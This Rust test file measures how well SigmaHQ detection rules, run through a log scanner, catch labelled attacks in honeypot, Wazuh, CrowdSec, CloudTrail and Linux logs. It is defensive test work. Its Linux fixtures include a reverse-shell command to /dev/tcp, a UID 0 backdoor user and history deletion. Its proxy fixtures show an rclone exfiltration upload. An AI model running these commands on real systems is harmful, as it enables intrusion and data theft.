//! SigmaHQ's own rules (../shared/corpus/sigmahq, DRL 1.1: used from the corpus, never copied)
//! run as they are, through the command line (`--rules ... --no-builtin-rules`), over real logs:
//!
//! - every rule file loads (the rate is printed);
//! - the web rules over the Honeynet honeypot logs, the CrowdSec hub cases and Wazuh's web
//!   cases: the right rule on the right line;
//! - the CloudTrail rules over the Invictus Stratus run (each labelled technique that SigmaHQ has
//!   a rule for is found within its time window) and the OTRF S3 exfiltration;
//! - the Linux rules over auth.log/syslog lines.
//!
//! Each set prints how many labelled attacks were found and how many findings fell on unlabelled
//! background. Floors are today's rates, so a regression fails.

mod common;

use common::{corpus, pct, wazuh_cases};
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::Command;

/// One finding of the case file, as the test needs it.
#[derive(Debug)]
struct Found {
    rule_id: String,
    first: String,
    last: String,
    count: u64,
    ips: BTreeSet<String>,
    /// (file location, line, byte offset)
    evidence: Vec<(String, u64, u64)>,
}

fn bin() -> &'static str {
    env!("CARGO_BIN_EXE_leaktrail")
}

/// `leaktrail scan PATHS --rules RULES.. --no-builtin-rules -o TMP` and its findings (without
/// leaktrail's own convergence and silence findings).
fn scan(paths: &[&Path], rules: &[PathBuf]) -> Vec<Found> {
    let out = tempfile::tempdir().unwrap();
    let case = out.path().join("case");
    let mut cmd = Command::new(bin());
    cmd.arg("scan")
        .args(paths)
        .arg("--no-builtin-rules")
        .arg("-q");
    for r in rules {
        cmd.arg("--rules").arg(r);
    }
    cmd.arg("-o").arg(&case);
    let st = cmd.output().unwrap();
    assert!(
        st.status.code().is_some_and(|c| c <= 1),
        "scan failed: {}",
        String::from_utf8_lossy(&st.stderr)
    );
    let v: Value = serde_json::from_slice(&std::fs::read(case.join("case.json")).unwrap()).unwrap();
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| !f["rule_id"].as_str().unwrap().starts_with("leaktrail-"))
        .map(|f| Found {
            rule_id: f["rule_id"].as_str().unwrap().to_string(),
            first: f["first_seen"].as_str().unwrap_or_default().to_string(),
            last: f["last_seen"].as_str().unwrap_or_default().to_string(),
            count: f["count"].as_u64().unwrap(),
            ips: f["entities"]["ips"]
                .as_array()
                .unwrap()
                .iter()
                .map(|x| x.as_str().unwrap().to_string())
                .collect(),
            evidence: f["evidence"]
                .as_array()
                .unwrap()
                .iter()
                .map(|e| {
                    (
                        e["location"].as_str().unwrap().to_string(),
                        e["line"].as_u64().unwrap(),
                        e["offset"].as_u64().unwrap(),
                    )
                })
                .collect(),
        })
        .collect()
}

fn sigmahq(sub: &str) -> Option<PathBuf> {
    corpus("sigmahq").map(|d| d.join(sub))
}

/// The web rules: generic webserver rules, product rules and emerging threats.
fn web_rules() -> Vec<PathBuf> {
    ["rules/web", "rules-emerging-threats"]
        .iter()
        .filter_map(|s| sigmahq(s))
        .collect()
}

/// The text of one line of a file (plain or gzip).
fn line_of(path: &str, line: u64) -> String {
    let mut text = std::fs::read(path).unwrap();
    if path.ends_with(".gz") {
        let mut out = Vec::new();
        std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&text[..]), &mut out).unwrap();
        text = out;
    }
    let l = text.split(|&b| b == b'\n').nth(line as usize - 1).unwrap();
    String::from_utf8_lossy(l).into_owned()
}

#[test]
fn sigmahq_rule_files_load() {
    let Some(dir) = corpus("sigmahq") else {
        return;
    };
    let out = Command::new(bin())
        .args(["rules", "validate"])
        .arg(&dir)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let last = text.lines().last().unwrap_or_default();
    let nums: Vec<usize> = last
        .split_whitespace()
        .filter_map(|w| w.parse().ok())
        .take(2)
        .collect();
    assert!(last.starts_with("loaded "), "{last}");
    let (n, t) = (nums[0], nums[1]);
    println!("sigmahq load: {last} = {:.1}% of the rule files", pct(n, t));
    assert!(t >= 300, "the corpus should hold the 323 SigmaHQ rules");
    assert!(pct(n, t) >= 98.0, "load rate fell: {last}");
}

#[test]
fn sigmahq_web_rules_on_the_honeynet_logs() {
    let Some(dir) = corpus("honeynet-redhat-httpd") else {
        return;
    };
    let found = scan(&[&dir], &web_rules());
    // Our own labels (regular expressions over the raw lines, from the corpus notes): IIS
    // worms' directory traversal (Nimda, CodeRed variants), and scanners' traversal with
    // percent-encoded dots (`/%2e%2e/%2e%2e/etc/passwd`), which the rule meets decoded.
    let traversal = regex::Regex::new(
        r"(?i)(\.\.|%2e%2e|%252e%252e|\.%2e|%2e\.)(%c0%af|%c1%1c|%255c|%25c1%259c|/|\\|%5c|%2f|%252f)",
    )
    .unwrap();
    let by_rule = |id: &str| found.iter().filter(|f| f.rule_id == id).collect::<Vec<_>>();
    let trav = by_rule("7745c2ea-24a5-4290-b680-04359cb84b35");
    assert!(!trav.is_empty(), "path traversal rule never fired");
    // The right rule on the right line: every example line of the traversal rule is one.
    let mut checked = 0;
    for f in &trav {
        for (loc, line, _) in &f.evidence {
            let l = line_of(loc, *line);
            assert!(traversal.is_match(&l), "not a traversal line: {l}");
            checked += 1;
        }
    }
    assert!(checked > 0);
    let matched: u64 = trav.iter().map(|f| f.count).sum();
    println!(
        "sigmahq honeynet: path-traversal rule matched {matched} lines ({checked} example lines read back, all traversal); {} findings from {} rules in all",
        found.len(),
        found
            .iter()
            .map(|f| &f.rule_id)
            .collect::<BTreeSet<_>>()
            .len()
    );
    // The rule looks for traversal to /etc/, /windows/ and /lib/password; the worms' 5,598
    // `..%c0%af../winnt/system32/cmd.exe` probes are outside what it names.
    assert!(matched >= 100, "traversal matched only {matched} lines");
}

#[test]
fn sigmahq_web_rules_on_crowdsec_cases() {
    let Some(dir) = corpus("crowdsec-hub-tests") else {
        return;
    };
    let rules = web_rules();
    let summary = std::fs::read_to_string(dir.join("SUMMARY.tsv")).unwrap();
    let (mut expected, mut hit, mut background) = (0, 0, 0);
    let mut hits = Vec::new();
    for row in summary.lines().skip(1) {
        let cols: Vec<&str> = row.split('\t').collect();
        if cols.len() < 8 || cols[7].is_empty() {
            continue;
        }
        let log = dir.join(cols[0]).join(cols[2]);
        let found = scan(&[&log], &rules);
        let want: BTreeSet<&str> = cols[7]
            .split(',')
            .filter(|ip| ip.parse::<std::net::IpAddr>().is_ok())
            .collect();
        for ip in &want {
            expected += 1;
            if found.iter().any(|f| f.ips.contains(*ip)) {
                hit += 1;
                hits.push(cols[0]);
            }
        }
        background += found
            .iter()
            .filter(|f| !f.ips.iter().any(|ip| want.contains(ip.as_str())))
            .count();
    }
    println!(
        "sigmahq crowdsec: expected attacks named by a SigmaHQ web finding: {hit}/{expected} = {:.1}%; findings on other addresses: {background}",
        pct(hit, expected)
    );
    println!("sigmahq crowdsec: found in {hits:?}");
    assert!(
        hit >= 3,
        "SigmaHQ web rules found only {hit} CrowdSec attacks"
    );
}

#[test]
fn sigmahq_web_rules_on_wazuh_cases() {
    let Some(dir) = corpus("wazuh-ruleset-tests") else {
        return;
    };
    let rules = web_rules();
    let tmp = tempfile::tempdir().unwrap();
    // Wazuh sections whose attack a SigmaHQ web rule names, and that rule.
    let right: &[(&str, &str)] = &[
        ("SQL injection", "5513deaf-f49a-46c2-a6c8-3f111b5cb453"),
        ("XSS", "65354b83-a2ea-4ea6-8414-3ab38be0d409"),
        (
            "Cross site scripting",
            "65354b83-a2ea-4ea6-8414-3ab38be0d409",
        ),
        (
            "directory traversal",
            "7745c2ea-24a5-4290-b680-04359cb84b35",
        ),
        ("Shellshock", "c67e0c98-4d39-46ee-8f6b-437ebf6b950e"),
    ];
    let (mut attacks, mut hit, mut wrong, mut quiet, mut noisy) = (0, 0, 0, 0, 0);
    let mut fired = BTreeMap::<String, usize>::new();
    for file in ["web_rules.ini", "web_appsec.ini"] {
        for (k, (section, level, line)) in wazuh_cases(&dir.join(file)).iter().enumerate() {
            let case = tmp.path().join(format!("{file}-{k}.log"));
            std::fs::write(&case, format!("{line}\n")).unwrap();
            let found = scan(&[&case], &rules);
            if *level >= 6 {
                attacks += 1;
                if !found.is_empty() {
                    hit += 1;
                }
                for f in &found {
                    *fired.entry(f.rule_id.clone()).or_default() += 1;
                }
                // When SigmaHQ fires on a line whose attack it has a rule for, it is that rule.
                let want = right
                    .iter()
                    .find(|(s, _)| section.to_lowercase().contains(&s.to_lowercase()));
                if let Some((_, id)) = want
                    && !found.is_empty()
                    && !found.iter().any(|f| f.rule_id == *id)
                {
                    wrong += 1;
                    println!("sigmahq wazuh: {section}: rule {id} did not fire on {line}");
                }
            } else if found.is_empty() {
                quiet += 1;
            } else {
                noisy += 1;
            }
        }
    }
    println!(
        "sigmahq wazuh web: attack lines (level >= 6) with a SigmaHQ finding: {hit}/{attacks} = {:.1}%; lower-level lines with a finding: {noisy}/{}",
        pct(hit, attacks),
        noisy + quiet
    );
    println!("sigmahq wazuh web: rules fired: {fired:?}");
    assert_eq!(wrong, 0, "a named attack fired another rule than its own");
    assert!(
        hit >= 1,
        "only {hit} Wazuh attack lines raised a SigmaHQ finding"
    );
}

/// Writes each line to a file of its own, scans it with the rules, and asserts that its rule
/// fires on line 1; returns how many did.
fn each_fires(attacks: &[(&str, &str)], rules: &Path, tmp: &Path) -> usize {
    for (k, (line, rule)) in attacks.iter().enumerate() {
        let f = tmp.join(format!("case-{k}.log"));
        std::fs::write(&f, format!("{line}\n")).unwrap();
        let found = scan(&[&f], &[rules.to_path_buf()]);
        assert!(
            found
                .iter()
                .any(|x| x.rule_id == *rule && x.evidence[0].1 == 1),
            "rule {rule} did not fire on: {line} (got {:?})",
            found.iter().map(|x| &x.rule_id).collect::<Vec<_>>()
        );
    }
    attacks.len()
}

#[test]
fn sigmahq_proxy_rules_on_squid_lines() {
    let Some(proxy) = sigmahq("rules/web/proxy_generic") else {
        return;
    };
    // Squid native lines (the user agent appended, a common custom format), written for this
    // test, and the rule each must fire.
    let attacks: &[(&str, &str)] = &[
        (
            "1791842115.412    912 10.20.4.17 TCP_MISS/200 734003200 PUT https://s3.eu-central-1.wasabisys.com/drop/db.tar - HIER_DIRECT/130.117.252.10 application/octet-stream \"rclone/v1.62.2\"",
            "2c03648b-e081-41a5-b9fb-7d854a915091",
        ),
        (
            "1791842190.003    120 10.20.4.17 TCP_MISS/200 2211 GET https://paste.ee/r/aB3xK - HIER_DIRECT/104.21.55.3 text/plain \"curl/8.5.0\"",
            "5468045b-4fcc-4d1a-973c-c9c9578edacb",
        ),
        (
            "1791842250.551    388 10.20.4.17 TCP_MISS/200 482113 GET http://update.example.country/patch/setup.exe - HIER_DIRECT/198.51.100.77 application/octet-stream \"Mozilla/5.0\"",
            "00d0b5ab-1f55-4120-8e83-487c0a7baf19",
        ),
    ];
    let tmp = tempfile::tempdir().unwrap();
    let hit = each_fires(attacks, &proxy, tmp.path());
    // Background: Wazuh's Squid test lines (real proxy traffic and errors, no attack).
    let mut background = (0, 0);
    if let Some(dir) = corpus("wazuh-ruleset-tests") {
        let lines: Vec<String> = wazuh_cases(&dir.join("squid_rules.ini"))
            .into_iter()
            .map(|c| c.2)
            .collect();
        let f = tmp.path().join("wazuh-squid.log");
        std::fs::write(&f, lines.join("\n") + "\n").unwrap();
        background = (scan(&[&f], std::slice::from_ref(&proxy)).len(), lines.len());
    }
    println!(
        "sigmahq squid: attack lines firing their proxy rule: {hit}/{}; findings on {} Wazuh Squid lines: {}",
        attacks.len(),
        background.1,
        background.0
    );
}

#[test]
fn sigmahq_error_log_rules_on_apache_and_nginx_error_logs() {
    let Some(rules) = sigmahq("rules/web/product") else {
        return;
    };
    // Error-log lines as Apache and nginx write them (written for this test); the rules say
    // `service: apache` / `service: nginx` with no product.
    let attacks: &[(&str, &str)] = &[
        (
            "[Mon Oct 12 22:31:07.512344 2026] [core:notice] [pid 1187:tid 140231] AH00052: child pid 4412 exit signal Segmentation fault (11)",
            "1da8ce0b-855d-4004-8860-7d64d42063b1",
        ),
        (
            "2026/10/12 22:31:07 [alert] 1187#1187: worker process 4412 exited on signal 6 (core dumped)",
            "59ec40bb-322e-40ab-808d-84fa690d7e56",
        ),
    ];
    let tmp = tempfile::tempdir().unwrap();
    let hit = each_fires(attacks, &rules, tmp.path());
    // Background: loghub's real Apache error log.
    let (mut lines, mut background) = (0, 0);
    if let Some(d) = corpus("loghub/Apache") {
        let log = d.join("Apache_2k.log");
        lines = std::fs::read_to_string(&log).unwrap().lines().count();
        background = scan(&[&log], std::slice::from_ref(&rules)).len();
    }
    println!(
        "sigmahq error logs: attack lines firing their rule: {hit}/{}; findings on {lines} lines of loghub's Apache error log: {background}",
        attacks.len()
    );
    assert_eq!(background, 0);
}

/// CloudTrail records at the evidence offsets: (eventID, eventName).
fn cloudtrail_records(f: &Found) -> Vec<(String, String)> {
    f.evidence
        .iter()
        .filter_map(|(loc, _, off)| {
            let data = std::fs::read(loc).ok()?;
            let mut it =
                serde_json::Deserializer::from_slice(&data[*off as usize..]).into_iter::<Value>();
            let v = it.next()?.ok()?;
            Some((
                v["eventID"].as_str()?.to_string(),
                v["eventName"].as_str()?.to_string(),
            ))
        })
        .collect()
}

#[test]
fn sigmahq_cloudtrail_rules_on_the_stratus_run() {
    let (Some(dir), Some(rules)) = (corpus("invictus-aws-stratus"), sigmahq("rules/cloud/aws"))
    else {
        return;
    };
    let found = scan(&[&dir.join("CloudTrail")], &[rules]);
    // The labelled techniques SigmaHQ has a rule for (from the rules' detection sections), and
    // that rule. The other labelled techniques have none: GetPasswordData, GetSecretValue,
    // GetParameters, PutEventSelectors, PutBucketLifecycle (the S3 tampering rule names the API
    // action PutLifecycleConfiguration, which CloudTrail never records), LeaveOrganization,
    // DescribeInstanceAttribute userData, RunInstances, ModifyImageAttribute,
    // ModifyDBSnapshotAttribute, PutBucketPolicy, CreateUser/AttachUserPolicy, UpdateAssumeRolePolicy,
    // CreateLoginProfile, lambda AddPermission / UpdateFunctionCode, rolesanywhere.
    let expect: &[(&str, &str)] = &[
        (
            "aws.credential-access.ec2-steal-instance-credentials",
            "38e7f511-3f74-41d4-836e-f57dfa18eead",
        ),
        (
            "aws.defense-evasion.cloudtrail-delete",
            "4db60cc0-36fb-42b7-9b58-a5b53019fb74",
        ),
        (
            "aws.defense-evasion.cloudtrail-stop",
            "4db60cc0-36fb-42b7-9b58-a5b53019fb74",
        ),
        (
            "aws.defense-evasion.vpc-remove-flow-logs",
            "e386b9b5-af12-450e-afff-761730fb8a98",
        ),
        (
            "aws.exfiltration.ec2-security-group-open-port-22-ingress",
            "6fb77778-040f-4015-9440-572aa9b6b580",
        ),
        (
            "aws.exfiltration.ec2-share-ebs-snapshot",
            "abae8fec-57bd-4f87-aff6-6e3db989843d",
        ),
        (
            "aws.initial-access.console-login-without-mfa",
            "77caf516-34e5-4df9-b4db-20744fea0a60",
        ),
        (
            "aws.persistence.iam-backdoor-user",
            "0a5177f4-6ca9-44c2-aacf-d3f3d8b6e4d2",
        ),
    ];
    let techniques = std::fs::read_to_string(dir.join("labels_techniques.csv")).unwrap();
    let windows: BTreeMap<&str, (&str, &str)> = techniques
        .lines()
        .skip(1)
        .map(|l| {
            let c: Vec<&str> = l.split(',').collect();
            (c[0], (c[2], c[3]))
        })
        .collect();
    let events = std::fs::read_to_string(dir.join("labels_events.csv")).unwrap();
    let labelled: BTreeSet<&str> = events
        .lines()
        .skip(1)
        .filter_map(|l| l.split(',').nth(1))
        .collect();
    let mut hit = 0;
    for (tech, rule) in expect {
        let (a, b) = windows[tech];
        let ok = found
            .iter()
            .any(|f| f.rule_id == *rule && f.first.as_str() <= b && f.last.as_str() >= a);
        assert!(ok, "{tech}: rule {rule} has no finding within {a}..{b}");
        hit += 1;
    }
    // Background: findings none of whose example events is a labelled (Stratus) event.
    let mut background = Vec::new();
    for f in &found {
        let recs = cloudtrail_records(f);
        assert!(!recs.is_empty(), "evidence of {} not read back", f.rule_id);
        if !recs.iter().any(|(id, _)| labelled.contains(id.as_str())) {
            background.push(format!("{} {}", &f.rule_id[..8], recs[0].1));
        }
    }
    println!(
        "sigmahq invictus: labelled techniques with a SigmaHQ rule found in their window: {hit}/{} ({} techniques labelled); findings on unlabelled background: {} of {} {background:?}",
        expect.len(),
        windows.len(),
        background.len(),
        found.len()
    );
    // The right rule on the right record: the console-login finding is the ConsoleLogin event.
    let login = found
        .iter()
        .find(|f| f.rule_id == "77caf516-34e5-4df9-b4db-20744fea0a60")
        .unwrap();
    assert!(
        cloudtrail_records(login)
            .iter()
            .all(|(_, n)| n == "ConsoleLogin")
    );
}

#[test]
fn sigmahq_cloudtrail_rules_on_the_otrf_s3_exfiltration() {
    let (Some(dir), Some(rules)) = (
        corpus("otrf-aws-ec2-proxy-s3-exfil"),
        sigmahq("rules/cloud/aws"),
    ) else {
        return;
    };
    let found = scan(&[&dir], &[rules]);
    // Ground truth (corpus notes): the attacker's events are the 11 made with the stolen
    // instance-role key ASIA5FLZVX4OPVKKVBMX.
    let file = dir.join("ec2_proxy_s3_exfiltration_2020-09-14011940.json");
    let text = std::fs::read_to_string(&file).unwrap();
    let attacker: BTreeSet<u64> = text
        .lines()
        .enumerate()
        .filter(|(_, l)| {
            serde_json::from_str::<Value>(l).is_ok_and(|v| {
                v["userIdentity"]["accessKeyId"].as_str() == Some("ASIA5FLZVX4OPVKKVBMX")
            })
        })
        .map(|(i, _)| i as u64 + 1)
        .collect();
    assert_eq!(attacker.len(), 11);
    let (mut on_attack, mut background) = (0, 0);
    for f in &found {
        if f.evidence.iter().any(|(_, l, _)| attacker.contains(l)) {
            on_attack += 1;
        } else {
            background += 1;
        }
    }
    println!(
        "sigmahq otrf: findings on the attacker's 11 events: {on_attack}; on unlabelled background: {background} (SigmaHQ has no rule for instance credentials used outside EC2 or for GetObject)"
    );
    assert!(
        on_attack >= 1,
        "no SigmaHQ finding on the attacker's events"
    );
}

#[test]
fn sigmahq_linux_rules_on_auth_and_syslog_lines() {
    let Some(rules) = sigmahq("rules/linux") else {
        return;
    };
    // Attack lines as Debian's rsyslog writes them (written for this test), and the rule each
    // must fire.
    let attacks: &[(&str, &str)] = &[
        (
            "Oct 12 22:14:03 bastion useradd[4242]: new user: name=backup2, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
            "0ac15ec3-d24f-4246-aa2a-3077bb1cf90e",
        ),
        (
            "Oct 12 22:15:40 bastion sudo[4301]:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/rm /home/deploy/.bash_history",
            "fdc88d25-96fb-4b7c-9633-c0e417fdbd4e",
        ),
        (
            "Oct 12 22:16:02 bastion sshd[4410]: Corrupted MAC on input. [preauth]",
            "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc",
        ),
        (
            "Oct 12 22:17:11 bastion crontab[4502]: (root) REPLACE (root)",
            "af202fd3-7bff-4212-a25a-fb34606cfcbe",
        ),
        (
            "Oct 12 22:18:30 bastion sudo[4600]:   deploy : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
            "6cc5fceb-9a71-4c23-aeeb-963abe0b279c",
        ),
        (
            "Oct 12 22:19:05 bastion systemd[1]: Stopping firewalld - dynamic firewall daemon...",
            "49f5dfc1-f92e-4d34-96fa-feba3f6acf36",
        ),
    ];
    let tmp = tempfile::tempdir().unwrap();
    let hit = each_fires(attacks, &rules, tmp.path());
    // Unlabelled background: real syslog and sshd logs (loghub) and the sample bastion.
    let mut background = 0;
    let mut bg_lines = 0;
    for sub in ["loghub/Linux", "loghub/OpenSSH"] {
        if let Some(d) = corpus(sub) {
            let log = std::fs::read_dir(&d)
                .unwrap()
                .flatten()
                .map(|e| e.path())
                .find(|p| p.extension().is_some_and(|x| x == "log"))
                .unwrap();
            bg_lines += std::fs::read_to_string(&log).unwrap().lines().count();
            background += scan(&[&log], std::slice::from_ref(&rules)).len();
        }
    }
    println!(
        "sigmahq linux: attack lines firing their rule: {hit}/{}; findings on {bg_lines} lines of loghub background: {background}",
        attacks.len()
    );
    assert_eq!(
        background, 0,
        "SigmaHQ Linux rules fired on loghub background"
    );
}
